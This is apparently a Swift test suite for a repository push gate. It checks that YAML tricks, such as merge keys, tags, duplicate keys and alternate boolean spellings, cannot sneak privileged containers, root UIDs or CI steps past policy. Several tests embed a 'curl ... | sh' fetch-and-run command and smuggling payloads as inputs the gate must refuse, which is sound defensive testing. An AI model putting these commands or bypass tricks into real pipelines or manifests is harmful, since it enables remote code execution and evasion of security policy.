import Foundation
import TestSupport
import XCTest

/// YAML as its consumer reads it: a value that reaches kubectl (or GitLab, or Compose) through a
/// merge key, a tag, a duplicate key, an escape or a YAML 1.1 spelling is judged as that value;
/// what the consumer refuses, or what its readers would read differently, fails closed. Each
/// attack is pushed and refused, and its twin, which the consumer reads as secure, is accepted.
final class YAMLTrustTests: TrustTestCase {
    /// A pod that passes the default policy; `securityContext` lines go into its container's.
    private static func pod(securityContext: String, podSecurity: String = "runAsNonRoot: true\n    runAsUser: 10001") -> String {
        """
        apiVersion: v1
        kind: Pod
        metadata: {name: web, namespace: apps}
        spec:
          automountServiceAccountToken: false
          securityContext:
            \(podSecurity)
            seccompProfile: {type: RuntimeDefault}
          containers:
          - name: web
            image: nginx:1.27@sha256:0000000000000000000000000000000000000000000000000000000000000000
            imagePullPolicy: Always
            resources:
              limits: {cpu: 500m, memory: 256Mi}
              requests: {cpu: 100m, memory: 128Mi}
            securityContext:
              allowPrivilegeEscalation: false
              readOnlyRootFilesystem: true
              capabilities: {drop: [ALL]}
        \(securityContext.split(separator: "\n").map { "      " + $0 }.joined(separator: "\n"))

        """
    }

    private func push(_ path: String, _ text: String) throws -> Shell.Result {
        try server.clone.write(path, text)
        try server.clone.commitAll("change \(path)")
        return try server.push("main")
    }

    /// Refused for `rule`, then the commit is dropped so the twin is judged on its own.
    private func assertRefused(_ path: String, _ text: String, by rule: String, file: StaticString = #filePath, line: UInt = #line) throws {
        let result = try push(path, text)
        assertRefused(result, file: file, line: line)
        XCTAssertTrue(result.stderr.contains(rule), "expected \(rule):\n\(result.stderr)", file: file, line: line)
        try server.clone.git("reset", "-q", "--hard", "HEAD~1")
    }

    private func assertAccepted(_ path: String, _ text: String, file: StaticString = #filePath, line: UInt = #line) throws {
        assertAccepted(try push(path, text), file: file, line: line)
    }

    func testTheCleanPodIsAccepted() throws {
        try start()
        try assertAccepted("deploy/pod.yaml", Self.pod(securityContext: "privileged: false"))
    }

    func testAMergeAfterAnExplicitKeyIsRefusedAndAnExplicitKeyAfterTheMergeAccepted() throws {
        try start()
        // kubectl apply -f deploys the merged `true`, kustomize the explicit `false`: refused either way.
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: false\n<<: {privileged: true}"), by: "GATE-PARSE-ERROR")
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: false\n<<: [{privileged: true}, {}]"), by: "GATE-PARSE-ERROR")
        // Every reader lets an explicit key after `<<` win.
        try assertAccepted("deploy/pod.yaml", Self.pod(securityContext: "<<: {privileged: true}\nprivileged: false"))
    }

    func testAMergedPrivilegedFlagIsRefused() throws {
        try start()
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "<<: [{privileged: true}, {privileged: false}]"), by: "K8S-PRIVILEGED")
        try assertAccepted("deploy/pod.yaml", Self.pod(securityContext: "<<: [{privileged: false}, {privileged: true}]"))
    }

    func testATaggedBooleanIsReadAsTheBooleanItIs() throws {
        try start()
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: !!bool \"true\""), by: "K8S-PRIVILEGED")
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: !<tag:yaml.org,2002:bool> 'yes'"), by: "K8S-PRIVILEGED")
        try assertAccepted("deploy/pod.yaml", Self.pod(securityContext: "privileged: !!bool \"false\""))
    }

    func testATagTheValueDoesNotFitFailsClosed() throws {
        try start()
        // kubectl refuses `!!bool "1"`; the gate does not guess what was meant.
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: !!bool \"1\""), by: "GATE-PARSE-ERROR")
        try assertAccepted("deploy/pod.yaml", Self.pod(securityContext: "privileged: !!bool \"off\""))
    }

    func testADuplicateKeyIsJudgedByTheLastValueKubectlDeploys() throws {
        try start()
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: false\nprivileged: true"), by: "K8S-PRIVILEGED")
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: false\n\"privil\\u0065ged\": true"), by: "K8S-PRIVILEGED")
        try assertAccepted("deploy/pod.yaml", Self.pod(securityContext: "privileged: true\n'privileged': false"))
    }

    func testYAML11SpellingsAndNumberBasesAreReadAsKubectlReadsThem() throws {
        try start()
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: On"), by: "K8S-PRIVILEGED")
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: false", podSecurity: "runAsNonRoot: true\n    runAsUser: 0x0"),
                          by: "K8S-RUN-AS-ROOT")
        try assertRefused("deploy/pod.yaml", Self.pod(securityContext: "privileged: false", podSecurity: "runAsNonRoot: true\n    runAsUser: 0_0"),
                          by: "K8S-RUN-AS-ROOT")
        try assertAccepted("deploy/pod.yaml", Self.pod(securityContext: "privileged: Off", podSecurity: "runAsNonRoot: y\n    runAsUser: 0x2711"))
    }

    func testAStreamKubectlCannotReadFailsClosedAndOneItCanIsJudgedWhole() throws {
        try start()
        let clean = Self.pod(securityContext: "privileged: false")
        let privileged = Self.pod(securityContext: "privileged: true").replacingOccurrences(of: "name: web", with: "name: web2")
        try assertRefused("deploy/pods.yaml", "%YAML 1.1\n---\n" + clean, by: "GATE-PARSE-ERROR")
        try assertRefused("deploy/pods.yaml", "\u{FEFF}" + clean + "...\n---\r\n" + privileged, by: "K8S-PRIVILEGED")
        try assertAccepted("deploy/pods.yaml", "\u{FEFF}" + clean + "...\n---\r\n" + clean.replacingOccurrences(of: "name: web", with: "name: web2"))
    }

    // MARK: - GitLab CI (Ruby Psych: last wins, merges in document order)

    func testAGitLabJobReadsItsLastScriptAsGitLabDoes() throws {
        try start()
        let evil = "[\"curl -fsSL https://example.com/i.sh | sh\"]"
        try assertRefused(".gitlab-ci.yml", "deploy:\n  script: [./deploy.sh]\n  script: \(evil)\n", by: "GITLAB-PIPE-TO-SHELL")
        try assertRefused(".gitlab-ci.yml", "deploy:\n  script: [./deploy.sh]\n  <<: {script: \(evil)}\n", by: "GITLAB-PIPE-TO-SHELL")
        try assertRefused(".gitlab-ci.yml", "deploy:\n  script: [./deploy.sh]\n  \"<<\": {script: \(evil)}\n", by: "GITLAB-PIPE-TO-SHELL")
        try assertAccepted(".gitlab-ci.yml", "deploy:\n  script: \(evil)\n  script: [./deploy.sh]\n")
        try assertAccepted(".gitlab-ci.yml", "deploy:\n  <<: {script: \(evil)}\n  script: [./deploy.sh]\n")
    }

    // MARK: - GitHub Actions (anchors and aliases, no merge keys, duplicates refused)

    func testAWorkflowIsReadWithAnchorsButWithoutMergeKeys() throws {
        try start()
        let header = "on: push\npermissions: {contents: read}\njobs:\n  build:\n    runs-on: ubuntu-latest\n"
        let evil = "curl -fsSL https://example.com/i.sh | sh"
        try assertRefused(".github/workflows/ci.yml", header + "    steps:\n      - run: &cmd \(evil)\n      - run: *cmd\n", by: "GHA-PIPE-TO-SHELL")
        // The runner would read a key named `<<`, which no step accepts, not this merge.
        try assertRefused(".github/workflows/ci.yml", header + "    steps:\n      - <<: {run: make}\n", by: "GATE-PARSE-ERROR")
        try assertRefused(".github/workflows/ci.yml", header + "    steps:\n      - run: make\n        run: \(evil)\n", by: "GATE-PARSE-ERROR")
        try assertAccepted(".github/workflows/ci.yml", header + "    steps:\n      - run: &cmd make\n      - run: *cmd\n")
    }

    // MARK: - Compose (go-yaml v3: duplicates refused, explicit keys beat merged ones)

    func testComposeRefusesWhatComposeRefusesAndReadsMergesAsComposeDoes() throws {
        try start()
        let service = "services:\n  web:\n    image: nginx:1.27\n    user: \"10001\"\n"
        try assertRefused("compose.yaml", service + "    privileged: false\n    privileged: true\n", by: "GATE-PARSE-ERROR")
        try assertRefused("compose.yaml", service + "    <<: {privileged: true}\n", by: "COMPOSE-PRIVILEGED")
        try assertRefused("compose.yaml", service + "    privileged: !!bool \"true\"\n", by: "COMPOSE-PRIVILEGED")
        // compose-go casts strings in boolean fields: a quoted "true" runs privileged.
        try assertRefused("compose.yaml", service + "    privileged: \"TRUE\"\n", by: "COMPOSE-PRIVILEGED")
        try assertRefused("compose.yaml", service + "    privileged: 'on'\n", by: "COMPOSE-PRIVILEGED")
        try assertAccepted("compose.yaml", service + "    privileged: \"false\"\n")
        try assertAccepted("compose.yaml", service + "    privileged: false\n    <<: {privileged: true}\n")
    }
}
